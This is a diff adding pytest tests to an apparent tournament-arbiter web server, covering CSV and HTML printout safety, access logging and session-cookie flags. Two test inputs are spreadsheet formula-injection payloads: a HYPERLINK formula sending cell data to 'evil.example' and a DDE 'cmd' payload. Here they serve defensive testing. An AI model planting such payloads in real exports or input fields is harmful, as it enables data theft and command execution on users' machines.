@@ -4,11 +4,15 @@ input is a 400 naming what is wrong, and the printouts and the cookie are safe t
 
 from __future__ import annotations
 
+import csv
+import io
+import logging
 import re
 from pathlib import Path
 from typing import Any
 
 import pytest
+from aiohttp import web
 from click.testing import CliRunner
 
 from server.cli import main
@@ -209,3 +213,78 @@ async def test_what_a_settings_change_stores_fits_the_tournaments_schema(api: Ap
     assert status == 200
     _, tournament = await api.get("/tournaments/open")
     assert {name: tournament["regulations"][name] for name in change} == change
+
+
+# -- 7: printouts, logs and the cookie ----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def test_csv_printouts_run_no_formula_and_html_ones_no_script(api: Api) -> None:
+    await open_tournament(api, pair=False)
+    for surname in (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"):
+        status, _ = await api.post("/tournaments/open/players", {"surname": surname})
+        assert status == 201
+    assert (await api.post("/tournaments/open/rounds"))[0] == 201
+    for path in (
+        "/tournaments/open/rounds/1/pairings",
+        "/tournaments/open/rounds/1/results",
+        "/tournaments/open/standings/printout",
+        "/tournaments/open/crosstable/printout",
+    ):
+        async with api.client.get(path, params={"format": "csv"}) as response:
+            assert response.status == 200, path
+            cells = [cell for row in csv.reader(io.StringIO(await response.text())) for cell in row]
+        assert f"'{FORMULA}" in cells, path
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], path
+        async with api.client.get(path, params={"format": "html"}) as response:
+            assert response.status == 200, path
+            policy = response.headers["Content-Security-Policy"]
+            assert "default-src 'none'" in policy and "script" not in policy, path
+            assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+async def test_the_access_line_has_the_status_the_client_got(
+    client: Client, caplog: pytest.LogCaptureFixture
+) -> None:
+    with caplog.at_level(logging.INFO, logger="arbiter.access"):
+        answers = []
+        for path in ("/static/no-such.css", "/static/arbiter.css", "/t/open/desk"):
+            async with client.get(path, allow_redirects=False) as response:
+                answers.append((path, response.status))
+        async with client.get("/static/arbiter.css") as response:
+            modified = response.headers["Last-Modified"]
+        async with client.get(
+            "/static/arbiter.css", headers={"If-Modified-Since": modified}
+        ) as response:
+            answers.append(("/static/arbiter.css", response.status))
+    assert answers == [
+        ("/static/no-such.css", 404), ("/static/arbiter.css", 200), ("/t/open/desk", 303),
+        ("/static/arbiter.css", 304),
+    ]  # fmt: skip
+    lines = [(r.path, r.status) for r in caplog.records if r.name == "arbiter.access"]  # type: ignore[attr-defined]
+    assert lines == [*answers[:3], ("/static/arbiter.css", 200), *answers[3:]]
+
+
+@pytest.mark.parametrize(("behind_tls_proxy", "secure"), [(False, False), (True, True)])
+async def test_the_session_cookie_is_secure_behind_a_tls_proxy(
+    aiohttp_client: Any, tmp_path: Path, behind_tls_proxy: bool, secure: bool
+) -> None:
+    settings = make_settings(tmp_path / "arbiter.db", behind_tls_proxy=behind_tls_proxy)
+    client = await aiohttp_client(create_app(settings))
+    async with client.post("/signin", data={"token": TOKEN}, allow_redirects=False) as response:
+        assert response.status == 303
+        cookie = response.cookies["arbiter_session"]
+    assert bool(cookie["secure"]) is secure
+    assert cookie["httponly"] and cookie["samesite"] == "Strict"
+
+
+def test_serve_tells_the_app_it_sits_behind_a_tls_proxy(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    served: list[web.Application] = []
+    monkeypatch.setattr(web, "run_app", lambda app, **options: served.append(app))
+    for flag in ([], ["--behind-tls-proxy"]):
+        result = CliRunner().invoke(main, ["serve", "--db", str(tmp_path / "a.db"), *flag])
+        assert result.exit_code == 0, result.output
+    assert [app[keys.SETTINGS].behind_tls_proxy for app in served] == [False, True]
